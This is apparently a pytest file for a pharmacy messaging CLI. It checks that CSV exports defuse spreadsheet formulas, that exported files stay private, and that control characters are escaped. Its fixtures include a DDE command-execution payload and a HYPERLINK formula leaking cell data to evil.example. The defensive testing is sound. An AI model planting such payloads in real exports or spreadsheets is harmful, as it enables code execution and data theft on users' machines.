"""CSV that opens safely in a spreadsheet, and files nobody else on the machine can read."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import uuid
from pathlib import Path

import pytest
from sqlalchemy import insert, text

from rxmsg_tui.storage.database import Database
from rxmsg_tui.storage.engine import make_engine
from rxmsg_tui.storage.models import OutboundMessage
from tests.cli_runner import Rxmsg
from tests.conftest import NOW
from tests.tui.seed import insert_patients, patient

COMMAND = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Refill due")'


@pytest.fixture(scope="module")
def pharmacy(tmp_path_factory: pytest.TempPathFactory) -> Rxmsg:
    """A store whose patients were imported from a system that let anything into a name."""
    rxmsg = Rxmsg(tmp_path_factory.mktemp("exports"))
    assert rxmsg("patients", "--format", "json").returncode == 0  # creates the store
    db = Database(make_engine(f"sqlite:///{rxmsg.db_path}"))
    with db.engine.connect() as conn:
        store_id = conn.execute(text("SELECT id FROM store")).scalar_one()
    ids = insert_patients(
        db,
        store_id,
        [
            patient("1001", COMMAND, "Smith", cell_phone="+15550102000"),
            patient("1002", "Ann", LINK),
            patient("1003", "@SUM(A1)", "-2+3"),
            patient("1004", "Eve\x1b[2J", "Bell\x07"),
        ],
    )
    with db.engine.begin() as conn:
        conn.execute(
            insert(OutboundMessage),
            [
                _message(store_id, ids["1001"], f"{COMMAND} Smith"),
                _message(store_id, ids["1002"], f"Ann {LINK}"),
                _message(store_id, ids["1004"], "Eve\x1b[2J Bell\x07"),
            ],
        )
    db.dispose()
    return rxmsg


def _message(store_id: int, patient_id: int, name: str) -> dict[str, object]:
    return {
        "uuid": str(uuid.uuid4()),
        "store_id": store_id,
        "patient_id": patient_id,
        "method": "SMS",
        "alert_type": "General",
        "priority": 3,
        "entity": "Patient",
        "entity_name": name,
        "recipient": "+15550102000",
        "body": "=1+1 is not a formula here",
        "status": "Pending",
        "created_at": NOW,
        "scheduled_at": NOW,
    }


def _csv(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


def test_patients_csv_keeps_formula_names_as_text(pharmacy: Rxmsg) -> None:
    result = pharmacy("patients", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = {row["patient_id"]: row for row in _csv(result.stdout)}
    assert rows["1001"]["first_name"] == "'" + COMMAND
    assert rows["1002"]["last_name"] == "'" + LINK
    assert (rows["1003"]["first_name"], rows["1003"]["last_name"]) == ("'@SUM(A1)", "'-2+3")
    assert rows["1001"]["cell_phone"] == "+15550102000", "a phone number is no formula"
    json_names = {
        p["patient_id"]: p["first_name"]
        for p in json.loads(pharmacy("patients", "--format", "json").stdout)
    }
    assert json_names["1001"] == COMMAND, "JSON is for programs: it carries the name as it is"


def test_queue_csv_keeps_formula_names_and_bodies_as_text(pharmacy: Rxmsg) -> None:
    result = pharmacy("queue", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = _csv(result.stdout)
    assert sorted(row["entity_name"] for row in rows) == sorted(
        ["'" + COMMAND + " Smith", "Ann " + LINK, "Eve\x1b[2J Bell\x07"]
    )
    assert {row["body"] for row in rows} == {"'=1+1 is not a formula here"}
    assert {row["recipient"] for row in rows} == {"+15550102000"}
    for row in rows:
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row.values())


def test_settings_export_is_private_even_over_an_open_file(pharmacy: Rxmsg, tmp_path: Path) -> None:
    target = tmp_path / "settings.json"
    target.write_text("old")
    target.chmod(0o644)
    old_umask = os.umask(0o022)
    try:
        assert pharmacy("settings", "export", str(target)).returncode == 0
        fresh = tmp_path / "fresh.json"
        assert pharmacy("settings", "export", str(fresh)).returncode == 0
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
    assert json.loads(target.read_text())["format"] == "rxmsg-settings"


def test_every_file_in_the_data_dir_is_private(pharmacy: Rxmsg) -> None:
    pharmacy("queue", "--format", "json")
    found = [p for p in pharmacy.home.rglob("*") if p.name != "config.toml"]
    assert found, "the database at least"
    for path in found:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o077 == 0, f"{path.relative_to(pharmacy.home)} is {oct(mode)}"


@pytest.mark.parametrize(
    ("command", "shown"), [("patients", "Bell\\x07, Eve"), ("queue", "Eve\\x1b[2J")]
)
def test_tables_show_control_characters_instead_of_sending_them(
    pharmacy: Rxmsg, command: str, shown: str
) -> None:
    result = pharmacy(command)
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert shown in result.stdout
